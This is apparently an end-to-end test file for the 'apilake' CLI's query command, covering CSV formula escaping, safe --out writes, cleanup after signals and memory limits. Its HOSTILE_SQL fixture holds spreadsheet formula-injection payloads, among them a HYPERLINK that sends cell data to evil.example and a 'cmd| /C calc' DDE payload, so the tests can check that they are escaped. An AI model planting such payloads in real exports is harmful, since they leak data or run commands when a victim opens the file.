import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { watch } from 'node:fs';
import { createServer } from 'node:net';
import { mkdir, mkdtemp, readFile, readdir, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DuckDBInstance } from '@duckdb/node-api';
import { beforeAll, describe, expect, it } from 'vitest';
import { apilake } from '../support/cli.js';

const BIN = fileURLToPath(new URL('../../bin/apilake.mjs', import.meta.url));
const PEAK_RSS = fileURLToPath(new URL('../support/reportPeakRss.mjs', import.meta.url));

/** What the output of a hostile API looks like: cells a spreadsheet would run, beside numbers. */
const HOSTILE_SQL = `SELECT * FROM (VALUES
  ('=HYPERLINK("http://evil.example/?d="&A1,"open")', -5, -12.50::DECIMAL(10,2), '-5'),
  ('+cmd|'' /C calc''!A0', 3, 0.25::DECIMAL(10,2), '@SUM(1+1)*cmd|x'),
  ('plain, text', -1, -1.00::DECIMAL(10,2), chr(9) || '=1+1')
) AS t(name, n, amount, note) ORDER BY n`;

const ESCAPED_CSV = [
  'name,n,amount,note',
  `"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",-5,-12.50,"'-5"`,
  `"plain, text",-1,-1.00,"'\t=1+1"`,
  `"'+cmd|' /C calc'!A0",3,0.25,"'@SUM(1+1)*cmd|x"`,
  '',
].join('\n');

let cwd: string;
/** A committed manifest of the lake folder, which no --out may replace. */
let manifest: string;
const MANIFEST_TEXT = '{"committed": true}\n';

beforeAll(async () => {
  cwd = await mkdtemp(join(tmpdir(), 'apilake-query-output-e2e-'));
  const dir = join(cwd, 'lake', 'manifests', 'source=shop', 'stream=items', 'dt=2024-01-01');
  await mkdir(dir, { recursive: true });
  manifest = join(dir, '20240101T000000Z_20240101T010000Z.000001.json');
  await writeFile(manifest, MANIFEST_TEXT);
  await mkdir(join(cwd, 'out'));
});

/** Files of a folder that a write left behind: temporary files of --out. */
const leftovers = async (dir: string) => (await readdir(dir)).filter((name) => name.endsWith('.apilake-tmp'));

describe('query CSV output', () => {
  it('prefixes cells a spreadsheet would run as formulas, by column type: numbers stay numbers', async () => {
    const result = await apilake(['query', HOSTILE_SQL, '--format', 'csv'], { cwd });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toBe(ESCAPED_CSV);
  });

  it('escapes the same way when writing --out', async () => {
    const out = join(cwd, 'out', 'hostile.csv');
    const result = await apilake(['query', HOSTILE_SQL, '--format', 'csv', '--out', out], { cwd });
    expect(result.code, result.stderr).toBe(0);
    expect(await readFile(out, 'utf8')).toBe(ESCAPED_CSV);
  });

  it('writes cells as they are with --no-formula-escape', async () => {
    const result = await apilake(['query', HOSTILE_SQL, '--format', 'csv', '--no-formula-escape'], { cwd });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout.split('\n')[1]).toBe(`"=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",-5,-12.50,-5`);
  });

  it("fails with DuckDB's reason, exit 2, when the query fails after rows were printed", async () => {
    const failing = `SELECT CASE WHEN range < 300000 THEN range::VARCHAR ELSE error('boom at ' || range) END AS v FROM range(600000)`;
    const result = await apilake(['query', failing, '--format', 'csv', '--lake', join(cwd, 'no-lake')], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('query failed: Invalid Input Error: boom at');
    expect(result.stdout.startsWith('v\n0\n1\n')).toBe(true);
  });

  it('fails if --no-formula-escape is given for another format, exit 2', async () => {
    const result = await apilake(['query', 'SELECT 1', '--format', 'json', '--no-formula-escape'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--no-formula-escape applies to CSV');
  });
});

describe('query --out', () => {
  it.each([
    ['a committed manifest', () => manifest],
    ['a new file in the lake', () => join(cwd, 'lake', 'manifests', 'new.json')],
    ['a path that climbs into the lake with ..', () => join(cwd, 'out', '..', 'lake', 'x.csv')],
  ])('fails if it names %s, exit 2, and the lake is untouched', async (_, path) => {
    const result = await apilake(['query', 'SELECT 1 AS x', '--format', 'csv', '--out', path(), '--force'], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('is inside the lake folder');
    expect(await readFile(manifest, 'utf8')).toBe(MANIFEST_TEXT);
  });

  it('fails if a symbolic link leads into the lake, through a folder or as the file itself', async () => {
    await symlink(join(cwd, 'lake', 'manifests'), join(cwd, 'out', 'to-lake'));
    await symlink(manifest, join(cwd, 'out', 'manifest-link.json'));
    for (const path of [join(cwd, 'out', 'to-lake', 'x.csv'), join(cwd, 'out', 'manifest-link.json')]) {
      const result = await apilake(['query', 'SELECT 1 AS x', '--format', 'csv', '--out', path, '--force'], { cwd });
      expect(result.code, path).toBe(2);
      expect(result.stderr).toContain('is inside the lake folder');
    }
    expect(await readFile(manifest, 'utf8')).toBe(MANIFEST_TEXT);
  });

  it('fails if the file exists, unless --force replaces it', async () => {
    const out = join(cwd, 'out', 'existing.csv');
    await writeFile(out, 'keep me\n');
    const refused = await apilake(['query', 'SELECT 1 AS x', '--format', 'csv', '--out', out], { cwd });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('exists; add --force to replace it');
    expect(await readFile(out, 'utf8')).toBe('keep me\n');
    const forced = await apilake(['query', 'SELECT 1 AS x', '--format', 'csv', '--out', out, '--force'], { cwd });
    expect(forced.code, forced.stderr).toBe(0);
    expect(await readFile(out, 'utf8')).toBe('x\n1\n');
  });

  it('fails if it names a folder, a socket, or a file in a folder that does not exist', async () => {
    const folder = await apilake(['query', 'SELECT 1', '--format', 'parquet', '--out', join(cwd, 'out'), '--force'], { cwd });
    expect(folder.code).toBe(2);
    expect(folder.stderr).toContain('is a folder');
    const missing = await apilake(['query', 'SELECT 1', '--format', 'csv', '--out', join(cwd, 'nowhere', 'x.csv')], { cwd });
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('does not exist');
    // Like a device (/dev/stdout), a socket would be replaced by the final rename, not written to.
    const socketPath = join(cwd, 'out', 'listening.sock');
    const server = createServer().listen(socketPath);
    await once(server, 'listening');
    try {
      const socket = await apilake(['query', 'SELECT 1', '--format', 'csv', '--out', socketPath, '--force'], { cwd });
      expect(socket.code).toBe(2);
      expect(socket.stderr).toContain('is not a regular file');
      expect((await stat(socketPath)).isSocket()).toBe(true);
    } finally {
      server.close();
    }
  });

  it.each(['csv', 'parquet'])('leaves no %s file, whole or half, when the query fails midway, and keeps the file --force would have replaced', async (format) => {
    // Rows stream out before a later row raises the error.
    const failing = `SELECT CASE WHEN range < 300000 THEN range::VARCHAR ELSE error('boom at ' || range) END AS v FROM range(600000)`;
    const fresh = join(cwd, 'out', `failing.${format}`);
    const result = await apilake(['query', failing, '--format', format, '--out', fresh], { cwd });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('boom at');
    await expect(stat(fresh)).rejects.toThrow(/ENOENT/);
    const kept = join(cwd, 'out', `kept.${format}`);
    await writeFile(kept, 'the previous result\n');
    expect((await apilake(['query', failing, '--format', format, '--out', kept, '--force'], { cwd })).code).toBe(2);
    expect(await readFile(kept, 'utf8')).toBe('the previous result\n');
    expect(await leftovers(join(cwd, 'out'))).toEqual([]);
  });

  it('fails if a file appears at the path while the query runs, and leaves that file as it is', async () => {
    const dir = await mkdtemp(join(cwd, 'out', 'race-'));
    const out = join(dir, 'result.csv');
    const child = spawn(process.execPath, [BIN, 'query', `SELECT range AS id, repeat('x', 40) AS pad FROM range(3000000)`, '--format', 'csv', '--out', out], {
      cwd,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
    await writingStarted(dir);
    await writeFile(out, 'written by someone else\n');
    expect(await exited).toBe(2);
    expect(stderr).toContain('exists (it appeared while the query ran); add --force to replace it');
    expect(await readFile(out, 'utf8')).toBe('written by someone else\n');
    expect(await leftovers(dir)).toEqual([]);
  });

  it.each([
    ['csv', 'SIGINT', 130],
    ['parquet', 'SIGINT', 130],
    ['csv', 'SIGTERM', 143],
  ] as const)('removes the temporary %s file when stopped by %s midway, and writes nothing', async (format, signal, code) => {
    const dir = await mkdtemp(join(cwd, 'out', 'stop-'));
    const out = join(dir, `result.${format}`);
    const child = spawn(process.execPath, [BIN, 'query', `SELECT range AS id, repeat('x', 40) AS pad FROM range(30000000)`, '--format', format, '--out', out], {
      cwd,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((resolve) => child.on('close', (c, s) => resolve({ code: c, signal: s })));
    await writingStarted(dir);
    child.kill(signal);
    const end = await exited;
    expect(end.code, stderr).toBe(code);
    if (code === null) expect(end.signal).toBe(signal);
    else expect(stderr).toContain(`apilake: query stopped; ${out} was not written`);
    expect(await readdir(dir)).toEqual([]);
  });
});

describe('query output to a closed pipe', () => {
  it('ends quietly with exit 0 when the reader stops reading (| head)', async () => {
    const args = ['query', 'SELECT range FROM range(50000000)', '--format', 'csv', '--lake', join(cwd, 'no-lake')];
    const child = spawn(process.execPath, [BIN, ...args], { cwd, stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    child.stdout.once('data', () => child.stdout.destroy());
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(stderr).toBe('');
    expect(code).toBe(0);
  });
});

describe('query memory', () => {
  // A million rows of ~100 bytes (~100 MB of text): printed whole, such a result once took over
  // 1 GiB; streamed, the process stays near its base size whatever the result's size.
  const ROWS = 1_000_000;
  const SQL = `SELECT printf('%08d', range) || repeat('x', 92) AS line FROM range(${ROWS})`;
  const LIMIT_MIB = 300;

  it.each([
    ['csv', ROWS + 1],
    ['json', ROWS],
    ['table', ROWS + 3],
    ['parquet', 0],
  ] as const)('keeps the peak resident memory under 300 MiB for a million rows as %s', { timeout: 180_000 }, async (format, lines) => {
    const peakFile = join(cwd, `peak-${format}.txt`);
    const out = join(cwd, 'out', 'memory.parquet');
    const args = ['--import', PEAK_RSS, BIN, 'query', SQL, '--format', format, ...(format === 'parquet' ? ['--out', out, '--force'] : [])];
    const child = spawn(process.execPath, args, { cwd, env: { ...process.env, APILAKE_TEST_PEAK_RSS_FILE: peakFile }, stdio: ['ignore', 'pipe', 'pipe'] });
    let newlines = 0;
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => {
      for (let at = chunk.indexOf(10); at !== -1; at = chunk.indexOf(10, at + 1)) newlines++;
    });
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
    expect(code, stderr).toBe(0);
    expect(newlines).toBe(lines);
    if (format === 'parquet') {
      const db = await (await DuckDBInstance.create(':memory:')).connect();
      expect((await db.runAndReadAll(`SELECT count(*) FROM read_parquet('${out}')`)).getRowsJson()).toEqual([[String(ROWS)]]);
    }
    const peakMiB = Number(await readFile(peakFile, 'utf8')) / 1024;
    expect(peakMiB).toBeGreaterThan(0);
    expect(peakMiB).toBeLessThan(LIMIT_MIB);
  });
});

/** Resolves once a temporary file in `dir` has content: the query is writing. */
function writingStarted(dir: string): Promise<void> {
  return new Promise((resolve) => {
    const watcher = watch(dir, () => {
      void readdir(dir).then(async (names) => {
        for (const name of names.filter((n) => n.endsWith('.apilake-tmp'))) {
          if ((await stat(join(dir, name)).catch(() => undefined))?.size) {
            watcher.close();
            resolve();
            return;
          }
        }
      });
    });
  });
}
